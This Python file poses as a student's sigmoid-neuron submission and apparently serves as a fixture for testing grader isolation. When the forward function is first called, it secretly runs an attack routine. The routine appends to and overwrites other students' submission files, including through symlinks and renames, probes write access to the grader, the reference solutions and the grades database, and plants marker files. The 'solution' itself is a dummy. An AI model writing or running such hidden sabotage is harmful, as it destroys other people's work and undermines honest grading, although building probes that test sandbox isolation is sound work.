"""Rewrites the class: its own file with a neighbour's, neighbours' files with wrong ones, the course's files and the reports; in
place, by rename, and through links."""

import os

SUBMISSIONS, CHECKOUT, OUT = "@submissions@", "@checkout@", "@out@"
ADDED = "\n# @left@\n"


def neighbours():
    names = [f"a{number:03}_{kind}.py" for number in range(0, 40) for kind in ("right", "wrong", "raises")]
    try:
        names += os.listdir(SUBMISSIONS)
    except OSError:
        pass
    return [f"{SUBMISSIONS}/{name}" for name in names]


def attack():
    for path in neighbours():
        for name in (path, f"link-{os.path.basename(path)}"):
            if name != path:
                try:
                    os.symlink(path, name)
                except OSError:
                    continue
            try:
                fd = os.open(name, os.O_WRONLY | os.O_APPEND)
                os.write(fd, ADDED.encode())
                os.close(fd)
            except OSError:
                continue
        try:
            with open("mine.py", "w") as file:
                file.write("raise SystemExit")
            os.rename("mine.py", path)
        except OSError:
            continue
    for path in (f"{CHECKOUT}/grader/judge.py", f"{CHECKOUT}/reference/solutions/sigmoid_neuron.py", f"{OUT}/grades.db"):
        try:
            # Opened only: that it could be written is what counts, and the checkout is not ours to spoil.
            os.close(os.open(path, os.O_WRONLY))
            print("LOOT: could write", path)
        except OSError:
            continue
    for folder in (SUBMISSIONS, f"{CHECKOUT}/grader", f"{CHECKOUT}/assignments", f"{OUT}/results", OUT):
        try:
            open(f"{folder}/@left@.py", "x").close()
        except OSError:
            continue


DONE = []


def sigmoid_neuron_forward(w, x):
    if not DONE:
        DONE.append(1)
        try:
            attack()
        except BaseException:
            pass
    return 0.0, None


def sigmoid_neuron_backward(df, cache):
    raise NotImplementedError
